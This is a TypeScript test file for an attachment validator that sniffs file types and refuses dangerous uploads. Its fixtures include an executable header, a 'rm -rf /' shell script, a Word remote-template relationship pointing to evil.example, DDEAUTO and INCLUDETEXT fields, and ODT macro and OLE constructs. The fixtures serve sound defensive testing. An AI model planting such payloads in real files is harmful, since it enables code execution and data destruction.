import { PDFDocument } from "@cantoo/pdf-lib";
import { describe, expect, it } from "vitest";
import { docx, pack, paragraph, run } from "../documents/testing/docx";
import { odt, p } from "../documents/testing/odt";
import { png } from "../documents/testing/world";
import { knownAttachment } from "./attachment-kind";

async function pdf(): Promise<Buffer> {
  const made = await PDFDocument.create();
  made.addPage();
  return Buffer.from(await made.save());
}
const word = (parts: Record<string, string> = {}) =>
  Buffer.from(docx({ body: paragraph(run("Podmínky")), parts }));
const outside =
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="x" TargetMode="External" Target="https://evil.example/t.dotm" ' +
  'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>' +
  "</Relationships>";
const inside = outside
  .replace('TargetMode="External" Target="https://evil.example/t.dotm"', 'Target="x.bin"')
  .replace("attachedTemplate", "oleObject");
const field = (code: string) =>
  Buffer.from(docx({ body: `<w:p><w:r><w:instrText>${code}</w:instrText></w:r></w:p>` }));
const header =
  '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>' +
  "<w:fldSimple w:instr='LINK Excel.Sheet \"x\" '/></w:p></w:hdr>";
const open = (inner: string) => Buffer.from(odt({ body: p("x", inner) }));
const ear =
  '<script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>';
const image = (href: string) => `<draw:frame><draw:image xlink:href="${href}"/></draw:frame>`;
const link = (href: string) => `<text:a xlink:href="${href}">x</text:a>`;
const packed = (parts: Record<string, string>) => Buffer.from(odt({ body: p("x"), parts }));

describe("an attachment", () => {
  it("is what its content says, and gets the ending of that", async () => {
    const known = async (name: string, bytes: Uint8Array) => {
      const { kind, name: ending } = await knownAttachment(name, Buffer.from(bytes));
      return [kind, ending];
    };
    expect(await known("podminky.pdf", await pdf())).toEqual(["pdf", "podminky.pdf"]);
    expect(await known("Podmínky.PDF", await pdf())).toEqual(["pdf", "Podmínky.PDF"]);
    expect(await known("podminky.docx", await pdf())).toEqual(["pdf", "podminky.docx.pdf"]);
    expect(await known("dopis", word())).toEqual(["docx", "dopis.docx"]);
    expect(await known("dopis.odt", odt({ body: p("x") }))).toEqual(["odt", "dopis.odt"]);
    expect(await known("mapa.exe", png())).toEqual(["png", "mapa.exe.png"]);
  });

  it.each([
    ["a program", "faktura.pdf", Buffer.from("MZ\x90\0"), "attachment_program"],
    ["a program of Linux", "a.pdf", Buffer.from("\x7fELF\x02", "latin1"), "attachment_program"],
    ["a script", "a.txt", Buffer.from("#!/bin/sh\nrm -rf /"), "attachment_program"],
    ["a script by its name", "a.js", Buffer.from("WScript.Echo(1)"), "attachment_program"],
    ["a page", "a.html", Buffer.from("<script>alert(1)</script>"), "attachment_kind"],
    ["a page that calls itself a picture", "a.png", Buffer.from("<html>"), "attachment_kind"],
    ["an archive", "a.zip", Buffer.from(pack({ "a.exe": "MZ" })), "attachment_kind"],
    ["an old document", "a.doc", Buffer.from("d0cf11e0a1b11ae1", "hex"), "attachment_kind"],
    ["a torn PDF", "a.pdf", Buffer.from("%PDF-1.7\n1 0 obj"), "pdf_unreadable"],
    ["a torn picture", "a.png", Buffer.from(png()).subarray(0, 40), "image_unreadable"],
    ["macros", "a.docx", word({ "word/vbaProject.bin": "x" }), "macros"],
    ["outside", "a.docx", word({ "word/_rels/settings.xml.rels": outside }), "active_content"],
    ["a field that starts a program", "a.docx", field(" DDEAUTO c:\\\\x "), "active_content"],
    ["a field that fetches a file", "a.docx", field(' INCLUDETEXT "x" '), "active_content"],
    ["a field in a header", "a.docx", word({ "word/header1.xml": header }), "active_content"],
    ["an ODT that listens", "a.odt", open(ear), "macros"],
    ["an ODT from elsewhere", "a.odt", open(image("https://a.example")), "active_content"],
    ["an ODT that asks a program", "a.odt", open("<text:dde-connection-decl/>"), "active_content"],
    ["a link to a macro", "a.odt", open(link("vnd.sun.star.script:a")), "active_content"],
    ["a package", "a.docx", word({ "word/embeddings/oleObject1.bin": "MZ" }), "embedded_file"],
    ["a renamed package", "a.docx", word({ "word/_rels/x.xml.rels": inside }), "embedded_file"],
    ["an object of ODT", "a.odt", packed({ "Object 1/content.xml": "<a/>" }), "embedded_file"],
    ["an object in a frame", "a.odt", open('<draw:object-ole xlink:href="./x"/>'), "embedded_file"],
  ])("that is %s is refused", async (_, name, bytes, code) => {
    await expect(knownAttachment(name, bytes)).rejects.toMatchObject({
      ...{ kind: "invalid", code: `templates.${code}` },
    });
  });
});
